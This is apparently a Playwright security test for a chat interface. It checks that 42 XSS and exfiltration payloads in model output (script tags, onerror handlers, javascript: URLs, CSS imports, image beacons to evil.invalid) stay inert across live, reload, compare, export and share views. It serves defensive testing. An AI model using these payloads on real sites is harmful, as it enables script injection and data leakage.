import type { BrowserContext, Locator, Page, Request } from "@playwright/test";
import { expect, test } from "./fixtures";
import { AssistantMessage } from "./pages/chat-page";

/**
 * Model output is untrusted. XSS and exfiltration payloads in the reasoning and the answer — live, after
 * a reload, in a compare column and on a share page — open no dialog, put no active element or handler
 * in the page, and make no request to the hosts they name until the user clicks "Load image".
 *
 * Two payload hosts: an unroutable name and a documentation IP. Every browser request to either is
 * intercepted and recorded (and answered, so a request would succeed and be seen), whatever the CSP.
 */
const EVIL = "https://evil.invalid";
const IP = "https://203.0.113.7";
const PAYLOAD_HOSTS = ["evil.invalid", "203.0.113.7"];

/** An SVG image whose markup tries to load and to run something; inside <img> neither may happen. */
const SVG = Buffer.from(
  `<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4" onload="alert('svg-in-img')"><image href="${EVIL}/in-svg.png" width="4" height="4"/><rect width="4" height="4" fill="red"/></svg>`,
).toString("base64");
const PNG_1PX =
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** 42 payloads, each its own Markdown block. */
const PAYLOADS = [
  `![md image](${EVIL}/img1.png?d=hello)`,
  `![ip image](${IP}/img2.png)`,
  "![reference image][evilref]",
  "![evilref]",
  `[![nested image](${EVIL}/nested.png)](${EVIL}/nested-link)`,
  `<img src="${EVIL}/raw.png" onerror="alert('img')">`,
  "<script>alert('script')</script>",
  `<svg onload="alert('svg')"><image href="${EVIL}/svg.png"/></svg>`,
  `<iframe src="${EVIL}/frame"></iframe>`,
  "[js link](javascript:alert('js'))",
  "[mixed case](JaVaScRiPt:alert('mixed'))",
  "[entity](&#106;avascript:alert('entity'))",
  "[spaced](<java script:alert('space')>)",
  "[newline](java&#x0A;script:alert('nl'))",
  "[data html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[vbscript](vbscript:msgbox('vb'))",
  `<a href="javascript:alert('raw-a')">raw anchor</a>`,
  `<style>@import url(${EVIL}/style.css); body { background: url(${EVIL}/bg.png) }</style>`,
  `<link rel="prefetch" href="${EVIL}/prefetch"><link rel="stylesheet" href="${EVIL}/sheet.css">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/refresh">`,
  `<base href="${EVIL}/">`,
  `<form action="${EVIL}/form"><button formaction="${EVIL}/formaction">go</button></form>`,
  "$\\href{javascript:alert('katex')}{katex link}$",
  `$\\url{${EVIL}/katex-url}$`,
  `$\\includegraphics{${EVIL}/katex.png}$`,
  `<${EVIL}/autolink>`,
  "&lt;img src=x onerror=alert('entities')&gt;",
  "![fullwidth](ｈｔｔｐｓ://evil.invalid/fw.png)",
  `<object data="${EVIL}/obj.swf"></object><embed src="${EVIL}/embed.swf">`,
  `<div style="background:url(${EVIL}/css.png)">styled</div>`,
  `<img srcset="${EVIL}/srcset.png 2x">`,
  "```mermaid\ngraph TD; A-->B; click A \"javascript:alert('mermaid')\"\n```",
  `<video poster="${EVIL}/poster.png" src="${EVIL}/v.mp4" autoplay></video><audio src="${EVIL}/a.mp3" autoplay></audio>`,
  `![svg data image](data:image/svg+xml;base64,${SVG})`,
  `<input type="image" src="${EVIL}/input.png">`,
  `<table background="${EVIL}/table.png"><tr><td>t</td></tr></table>`,
  `[plain link](${EVIL}/link "a title")`,
  "<details open ontoggle=\"alert('details')\"><summary>s</summary></details>",
  `<math><maction actiontype="statusline" xlink:href="javascript:alert('math')">m</maction></math>`,
  `<a href="${EVIL}/ping" ping="${EVIL}/pinged">ping</a>`,
  `![unicode host](https://evil.invalid/\u202Egnp.png)`,
  `<img src=x onerror=alert('unquoted')>`,
  `[evilref]: ${EVIL}/ref.png`,
];

const markdown = (label: string) => [`${label} start.`, ...PAYLOADS, `${label} finish.`].join("\n\n");

interface Guard {
  requests: string[];
  dialogs: string[];
}

/** Record (and answer) every request to a payload host, and every dialog of every page. */
async function guard(context: BrowserContext): Promise<Guard> {
  const g: Guard = { requests: [], dialogs: [] };
  await context.route(
    (url) => PAYLOAD_HOSTS.includes(url.hostname),
    (route) => {
      const png = route.request().url().includes(".png");
      return route.fulfill(
        png
          ? { status: 200, contentType: "image/png", body: Buffer.from(PNG_1PX, "base64") }
          : { status: 200, contentType: "text/plain", body: "seen" },
      );
    },
  );
  const watch = (p: Page) =>
    p.on("dialog", (d) => {
      g.dialogs.push(d.message());
      void d.dismiss();
    });
  context.pages().forEach(watch);
  context.on("page", watch);
  // Requests a route cannot see (blocked earlier) still show here.
  context.on("request", (r: Request) => {
    if (PAYLOAD_HOSTS.includes(new URL(r.url()).hostname) && !g.requests.includes(r.url()))
      g.requests.push(r.url());
  });
  return g;
}

/**
 * Nothing active in rendered model output: no handler attribute, no script-ish or fetching element, no
 * script URL, and no attribute that loads from a payload host (a link's href may name one: a link
 * fetches nothing until clicked).
 */
async function audit(scope: Locator): Promise<string[]> {
  return scope.evaluateAll((roots, hosts) => {
    const problems: string[] = [];
    const TEXT_ATTRS = new Set(["title", "alt", "aria-label", "data-remote-image"]);
    const ACTIVE = new Set([
      "SCRIPT",
      "IFRAME",
      "OBJECT",
      "EMBED",
      "BASE",
      "META",
      "LINK",
      "FORM",
      "STYLE",
      "VIDEO",
      "AUDIO",
      "INPUT",
      "FRAME",
    ]);
    for (const root of roots) {
      for (const el of root.querySelectorAll("*")) {
        if (ACTIVE.has(el.tagName)) problems.push(`<${el.tagName.toLowerCase()}> element`);
        for (const attr of Array.from(el.attributes)) {
          const name = attr.name.toLowerCase();
          if (name.startsWith("on")) problems.push(`${el.tagName} has ${name}`);
          if (TEXT_ATTRS.has(name)) continue;
          const squeezed = attr.value.replace(/[\p{Cc}\s]/gu, "").toLowerCase();
          if (/^(javascript|vbscript|data:text)/.test(squeezed))
            problems.push(`${el.tagName} ${name}=${attr.value}`);
          const isLink = el.tagName === "A" && name === "href";
          if (!isLink && hosts.some((h) => attr.value.includes(h)))
            problems.push(`${el.tagName} ${name}=${attr.value}`);
        }
        if (el.tagName === "IMG" && !(el as HTMLImageElement).src.startsWith("data:")) {
          problems.push(`<img src=${(el as HTMLImageElement).src}>`);
        }
      }
    }
    return problems;
  }, PAYLOAD_HOSTS);
}

/** Every assistant message of `scope` with its reasoning opened, checked. */
async function checkAnswers(scope: Locator, uid: string, g: Guard) {
  const articles = scope.getByRole("article", { name: /^Assistant/ });
  await expect(articles.last()).toContainText(`Answer ${uid} finish.`);
  for (const article of await articles.all()) {
    const message = new AssistantMessage(article);
    await message.openReasoning();
    await expect(article).toContainText(`Reasoning ${uid} finish.`);
    // The placeholders name the hosts; raw HTML shows as the text it is.
    await expect(article.getByText("Image from evil.invalid").first()).toBeVisible();
    await expect(article.getByText("Image from 203.0.113.7").first()).toBeVisible();
    await expect(article.getByText("<script>alert('script')</script>").first()).toBeVisible();
    // The data: SVG renders as an image.
    await expect(article.locator('img[alt="svg data image"]').first()).toBeVisible();
  }
  expect(await audit(articles)).toEqual([]);
  expect(g.dialogs).toEqual([]);
  expect(g.requests).toEqual([]);
}

test.describe("untrusted model output", () => {
  test.describe.configure({ timeout: 90_000 });

  test("payloads in reasoning and answer: no dialog, no request, nothing active — live, after a reload, after one click, in compare and on a share page", async ({
    browser,
    chat,
    compare,
    context,
    fake,
    page,
    request,
    uid,
  }) => {
    const g = await guard(context);
    await fake.script({
      reasoning: markdown(`Reasoning ${uid}`),
      answer: markdown(`Answer ${uid}`),
      chunkSize: 6,
      chunkDelayMs: 20,
      // the answer waits for the test: the live view is checked while it is still streaming
      answerGate: `gate-${uid}`,
    });

    // Live: checked while the answer streams, then once it is complete.
    await chat.goto();
    await chat.send(fake.message(`Payloads ${uid}`));
    const streaming = chat.assistantArticles.last();
    // (the last payload but one: what follows it renders no text; the very last characters of a
    // streaming text may wait for the next delta, see lib/security/redact.ts)
    await expect(streaming).toContainText("<img src=x onerror=alert('unquoted')>");
    await expect(streaming.getByText("Image from evil.invalid").first()).toBeVisible();
    await expect(chat.stopButton).toBeVisible();
    expect(await audit(streaming)).toEqual([]);
    expect(g.requests).toEqual([]);
    await fake.client.openGate(`gate-${uid}`);
    await chat.waitForIdle(30_000);
    await checkAnswers(page.locator("body"), uid, g);
    const conversationId = await chat.conversationId();

    // After a reload (rendered from the stored row).
    await chat.reload();
    await checkAnswers(page.locator("body"), uid, g);

    // One click loads exactly that image, without a referrer.
    const answer = chat.assistantArticles.last();
    const placeholder = answer
      .locator('[data-remote-image="evil.invalid"]')
      .filter({ hasText: "md image" })
      .last();
    const loaded = page.waitForRequest((r) => r.url().startsWith(`${EVIL}/img1.png`));
    await placeholder.getByRole("button", { name: "Load image" }).click();
    const imageRequest = await loaded;
    expect(imageRequest.headers().referer).toBeUndefined();
    const image = answer.locator('img[alt="md image"]');
    await expect(image).toBeVisible();
    await expect
      .poll(() => image.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth))
      .toBe(1);
    expect(g.requests).toEqual([`${EVIL}/img1.png?d=hello`]);
    g.requests.length = 0;

    // A compare column renders the same way.
    await compare.goto();
    await compare.send(fake.message(`Compare payloads ${uid}`));
    await compare.waitForIdle(40_000);
    await checkAnswers(compare.column(1).root, uid, g);
    await checkAnswers(compare.column(2).root, uid, g);

    // The Markdown export fetches nothing in another viewer either: images are links, HTML is text.
    const md = await (await request.get(`/api/conversations/${conversationId}/export?format=md`)).text();
    expect(md).toContain(`[Image: md image](${EVIL}/img1.png?d=hello)`);
    expect(md).toContain("&lt;img src=x onerror=alert('unquoted')>");
    // (the reasoning sits escaped inside <pre>, where Markdown is not parsed: it is checked as HTML only)
    const outsidePre = md.replace(/<pre>[\s\S]*?<\/pre>/g, "");
    expect(outsidePre).not.toMatch(/!\[[^\]]*\]\(https?:/);
    expect(md).not.toMatch(/<(img|script|iframe|svg|object|embed|link|meta|base|style)\b/i);

    // A share page, opened by a visitor: links only, never a "Load image" button.
    const res = await request.post(`/api/conversations/${conversationId}/share`, { data: {} });
    expect(res.status()).toBe(201);
    const { url } = (await res.json()) as { url: string };
    const visitor = await browser.newContext();
    const vg = await guard(visitor);
    const sharePage = await visitor.newPage();
    await sharePage.goto(new URL(url).pathname);
    const shared = sharePage.locator("body");
    await checkAnswers(shared, uid, vg);
    await expect(shared.getByRole("button", { name: "Load image" })).toHaveCount(0);
    await expect(
      shared.locator('[data-remote-image="evil.invalid"]').first().getByRole("link", { name: "Open link" }),
    ).toHaveAttribute("rel", "noopener noreferrer nofollow");
    expect(vg.requests).toEqual([]);
    await visitor.close();
  });
});
